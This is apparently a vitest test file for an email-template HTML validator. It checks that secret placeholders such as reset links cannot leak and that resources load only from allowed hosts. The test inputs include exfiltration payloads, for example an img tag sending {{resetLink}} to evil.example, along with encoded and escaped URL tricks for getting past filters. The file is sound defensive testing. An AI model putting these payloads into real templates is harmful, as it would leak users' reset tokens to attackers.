import { describe, expect, it } from 'vitest';
import { EMAIL_TEMPLATES } from '../db/seed/reference-data';
import { UNSUBSCRIBE_FOOTER } from '../mail/preferences';
import { translate } from '@shared/messages';
import { AppError } from './errors';
import { assertSafeMailHtml, cssAddresses, mailHtml, mailHtmlViolations, renderMailHtml } from './mail-html-safety';

const policy = { publicUrl: 'https://ihracat.example', allowedHosts: ['cdn.allowed.example'] };
const violations = (html: string) => mailHtmlViolations(html, policy);

describe('secret placeholders', () => {
  it('allow only the whole <a href> value and text', () => {
    expect(violations('<p>Hi <a href="{{resetLink}}">reset</a> or paste {{resetLink}}</p>')).toEqual([]);
    expect(violations('<a href=" {{ verifyLink }} ">x</a><a href={{actionUrl}}>y</a>')).toEqual([]);
  });

  it.each([
    ['<img src="https://evil.example/c.gif?l={{resetLink}}">', '<img src>'],
    ['<a href="https://evil.example/?t={{resetLink}}">x</a>', '<a href>'],
    ['<a title="{{resetLink}}" href="/">x</a>', '<a title>'],
    ['<p style="background:url({{unsubscribeUrl}})">x</p>', '<p style>'],
    ['<img srcset="{{verifyLink}} 2x">', '<img srcset>'],
    ['<style>.x{background:url({{actionUrl}})}</style>', '<style>'],
    ['<!--[if mso]><v:image src="{{resetLink}}"/><![endif]-->', '<!-- -->'],
    ['<img {{resetLink}}>', '<img>'],
    ['<area href="{{unsubscribeLink}}">', '<area href>'],
  ])('refuse %s, naming %s', (html, element) => {
    expect(violations(html)).toContainEqual(expect.objectContaining({ kind: 'secret', element }));
  });

  it('leave other placeholders where they are', () => {
    expect(violations('<td title="{{partnerName}}">{{userName}}</td>')).toEqual([]);
  });
});

describe('resource hosts', () => {
  it.each([
    ['<img src="https://evil.example/x.png">', '<img src>', 'evil.example'],
    ['<img src="//evil.example/x.png">', '<img src>', 'evil.example'],
    ['<img src="&#104;ttps://evil.example/x.png">', '<img src>', 'evil.example'],
    ['<img srcset="/a.png 1x, https://evil.example/b.png 2x">', '<img srcset>', 'evil.example'],
    ['<td background="https://evil.example/bg.png">x</td>', '<td background>', 'evil.example'],
    ['<div style="background:url(\'https://evil.example/x\')">x</div>', '<div style>', 'evil.example'],
    ['<div style="background-image:u\\72l(https://evil.example/x)">x</div>', '<div style>', 'evil.example'],
    ['<style>@import "https://evil.example/a.css";</style>', '<style>', 'evil.example'],
    ['<style>.a{background:image-set("https://evil.example/a.png" 1x)}</style>', '<style>', 'evil.example'],
    ['<link rel="stylesheet" href="https://evil.example/s.css">', '<link href>', 'evil.example'],
    ['<video poster="https://evil.example/p.png"></video>', '<video poster>', 'evil.example'],
    ['<audio><source src="https://evil.example/a.mp3"></audio>', '<source src>', 'evil.example'],
    ['<img src="{{companyName}}">', '<img src>', '{{companyName}}'],
    ['<img src="data:image/svg+xml,<svg/>">', '<img src>', 'data:'],
    ['<img src="ftp://evil.example/x.png">', '<img src>', 'ftp:'],
  ])('refuse %s, naming %s and %s', (html, element, address) => {
    expect(violations(html)).toContainEqual({ kind: 'resource', element, address });
  });

  it('allow the site, relative paths, allowed hosts, cid: and raster data: images', () => {
    expect(
      violations(
        '<img src="https://ihracat.example/logo.png"><img src="/public-objects/a.png">' +
          '<img src="https://CDN.allowed.example/a.png"><img src="cid:logo">' +
          '<img src="data:image/png;base64,AAAA"><td background="https://cdn.allowed.example/bg.png"></td>' +
          '<a href="https://anywhere.example/page">links navigate, they load nothing</a>',
      ),
    ).toEqual([]);
  });

  it('read CSS without comments and with escapes decoded', () => {
    expect(cssAddresses('a{b:url(/*x*/"https://e.example/1")} c{d:\\75 rl(https://e.example/2)}')).toEqual([
      'https://e.example/1',
      'https://e.example/2',
    ]);
  });
});

describe('assertSafeMailHtml', () => {
  it('throws TEMPLATE_UNSAFE_HTML naming the element, in Turkish', () => {
    let error: unknown;
    try {
      assertSafeMailHtml('<img src="https://evil.example/c.gif?l={{resetLink}}">', policy);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(AppError);
    expect(error).toMatchObject({
      code: 'TEMPLATE_UNSAFE_HTML',
      statusCode: 400,
      messageKey: 'templates.unsafeSecretPlaceholder',
      params: { element: '<img src>', name: '{{resetLink}}' },
      fieldErrors: { htmlContent: ['templates.unsafeHtmlField'] },
    });
  });

  it('passes every seeded e-mail template, and the footers the senders append', () => {
    const seeded = { publicUrl: 'https://ihracat.example', allowedHosts: [] };
    for (const t of EMAIL_TEMPLATES) expect([t.type, mailHtmlViolations(t.htmlContent, seeded)]).toEqual([t.type, []]);
    for (const footer of Object.values(UNSUBSCRIBE_FOOTER)) expect(mailHtmlViolations(footer, seeded)).toEqual([]);
    for (const lang of ['tr', 'en'] as const) {
      const footer = translate(lang, 'marketing.unsubscribeFooter', { unsubscribeUrl: '{{unsubscribeUrl}}' });
      expect(mailHtmlViolations(footer, seeded)).toEqual([]);
    }
  });
});

describe('renderMailHtml (send time)', () => {
  const params = { resetLink: 'https://ihracat.example/reset?token=SECRET&x=1', userName: '<Ayşe>' };

  it('fills a secret only as a whole <a href> or text, escaping every value', () => {
    const html = renderMailHtml(
      '<img src="https://evil.example/c.gif?l={{resetLink}}"><p style="x:{{resetLink}}">' +
        '<a href="{{resetLink}}">{{resetLink}}</a> {{userName}}</p><!-- {{resetLink}} -->',
      params,
    );
    expect(html).toBe(
      '<img src="https://evil.example/c.gif?l="><p style="x:">' +
        '<a href="https://ihracat.example/reset?token=SECRET&amp;x=1">https://ihracat.example/reset?token=SECRET&amp;x=1</a>' +
        ' &lt;Ayşe&gt;</p><!--  -->',
    );
  });

  it('fills other placeholders anywhere, and unknown ones as empty', () => {
    expect(renderMailHtml('<td title="{{userName}}">{{nope}}</td>', params)).toBe('<td title="&lt;Ayşe&gt;"></td>');
  });
});

describe('block placeholders (decision 041)', () => {
  const block = mailHtml`<ul>${['<b>Ege</b> & Co', 'İpek'].map((name) => mailHtml`<li><a href="${'/p?a=1&b=2'}">${name}</a></li>`)}</ul>`;

  it('mailHtml escapes every value put into it and keeps built HTML as it is', () => {
    expect(block.html).toBe(
      '<ul><li><a href="/p?a=1&amp;b=2">&lt;b&gt;Ege&lt;/b&gt; &amp; Co</a></li><li><a href="/p?a=1&amp;b=2">İpek</a></li></ul>',
    );
  });

  it('go in unescaped only where the template has them as text', () => {
    expect(renderMailHtml('<div>{{digestSections}}</div>', { digestSections: block })).toBe(`<div>${block.html}</div>`);
    expect(
      renderMailHtml('<a href="{{digestSections}}" title="{{digestSections}}">x</a><!-- {{digestSections}} -->', {
        digestSections: block,
      }),
    ).toBe('<a href="" title="">x</a><!--  -->');
    // A plain string under a block's name is text like any other.
    expect(renderMailHtml('<div>{{digestSections}}</div>', { digestSections: '<b>x</b>' })).toBe(
      '<div>&lt;b&gt;x&lt;/b&gt;</div>',
    );
  });

  it('are refused by the editor anywhere but as text', () => {
    expect(violations('<div>{{digestSections}}</div><td>{{ digestSections }}</td>')).toEqual([]);
    expect(violations('<a href="{{digestSections}}">x</a>')).toEqual([
      { kind: 'block', element: '<a href>', name: '{{digestSections}}' },
    ]);
    expect(violations('<title>{{digestSections}}</title>')).toEqual([
      { kind: 'block', element: '<title>', name: '{{digestSections}}' },
    ]);
    expect(() => assertSafeMailHtml('<p style="{{digestSections}}">x</p>', policy)).toThrow(
      expect.objectContaining({ messageKey: 'templates.unsafeBlockPlaceholder' }),
    );
  });
});
